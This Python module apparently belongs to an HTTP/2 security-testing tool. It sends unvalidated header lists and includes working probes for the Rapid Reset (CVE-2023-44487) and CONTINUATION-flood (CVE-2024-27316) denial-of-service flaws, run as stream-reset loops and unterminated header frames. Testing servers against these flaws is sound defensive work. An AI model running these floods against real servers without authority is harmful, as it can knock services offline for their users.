"""A list of HTTP/2 headers, pseudo-headers too, in any order and number → one stream → what came back."""

from __future__ import annotations

import contextlib
import socket
import ssl
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, DataReceived, Event, ResponseReceived, StreamEnded, StreamReset
from h2.exceptions import ProtocolError

from .wire import CLOSED, SILENT, Address, Headers, Reply, connect

RESET = "reset"  # of the stream, or of the whole connection, by an error code of HTTP/2


def exchange(
    address: Address, headers: Headers, body: bytes, tls: ssl.SSLContext, name: str, patience: float = 3.0
) -> Reply:
    """`tls` has to offer h2 by ALPN. Nothing of what is sent is checked here: the other side's checks are what is tried."""
    unchecked = H2Configuration(
        header_encoding="utf-8",
        validate_outbound_headers=False,
        normalize_outbound_headers=False,
        validate_inbound_headers=False,
    )
    try:
        with contextlib.closing(connect(address, tls, name, patience)) as link:
            talk = H2Connection(unchecked)
            talk.initiate_connection()
            talk.send_headers(1, list(headers), end_stream=not body)
            if body:
                talk.send_data(1, body, end_stream=True)
            link.sendall(talk.data_to_send())
            return _answer(link, talk, time.monotonic() + patience)
    except OSError:
        return Reply(CLOSED)


def _answer(link: socket.socket, talk: H2Connection, deadline: float) -> Reply:
    reply, data = Reply(SILENT), b""
    while (left := deadline - time.monotonic()) > 0:
        link.settimeout(left)
        try:
            received = link.recv(65536)
            events = talk.receive_data(received) if received else None
        except TimeoutError:
            return reply
        except (OSError, ProtocolError):
            return Reply(CLOSED)
        if events is None:
            return Reply(CLOSED) if reply.status == SILENT else reply
        for event in events:
            if isinstance(event, ResponseReceived):
                said = {_text(key): _text(value) for key, value in event.headers}
                reply = Reply(said[":status"], said, "", 1)
            elif isinstance(event, DataReceived):
                data += event.data
            elif (why := _reset(event)) is not None:
                return Reply(RESET, {}, why)
            elif isinstance(event, StreamEnded):
                return reply._replace(body=data.decode(errors="replace"))
        with contextlib.suppress(OSError):
            link.sendall(talk.data_to_send())
    return reply


def _reset(event: Event) -> str | None:
    """The name of the error that ended it; None for any other event."""
    if not isinstance(event, (StreamReset, ConnectionTerminated)) or event.error_code is None:
        return None
    return ErrorCodes(event.error_code).name


def _text(value: bytes | str) -> str:
    return value.decode() if isinstance(value, bytes) else value


def resets(
    address: Address, headers: Headers, count: int, tls: ssl.SSLContext, name: str, patience: float = 3.0
) -> bool:
    """So many streams, each reset as soon as it is opened (CVE-2023-44487) → whether the other side ended the connection."""
    try:
        with contextlib.closing(connect(address, tls, name, patience)) as link:
            talk = H2Connection(H2Configuration(header_encoding="utf-8"))
            talk.initiate_connection()
            for index in range(count):
                talk.send_headers(2 * index + 1, list(headers), end_stream=True)
                talk.reset_stream(2 * index + 1, ErrorCodes.CANCEL)
                link.sendall(talk.data_to_send())
            return _answer(link, talk, time.monotonic() + patience).status in (CLOSED, RESET)
    except OSError:
        return True


def endless(address: Address, tls: ssl.SSLContext, name: str, most: int = 200, patience: float = 3.0) -> Reply:
    """A header block in CONTINUATION frames without an end (CVE-2024-27316), 16 KiB each, `most` of them."""
    from hpack import Encoder
    from hyperframe.frame import ContinuationFrame, HeadersFrame

    encoder = Encoder()
    try:
        with contextlib.closing(connect(address, tls, name, patience)) as link:
            talk = H2Connection(H2Configuration(header_encoding="utf-8"))
            talk.initiate_connection()
            usual = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]
            link.sendall(talk.data_to_send() + HeadersFrame(1, encoder.encode(usual), flags=[]).serialize())
            for index in range(most):
                more = encoder.encode([(f"x-{index}", "a" * 12_000)], huffman=False)
                link.sendall(ContinuationFrame(1, more).serialize())
            return _answer(link, talk, time.monotonic() + patience)
    except OSError:
        return Reply(CLOSED)
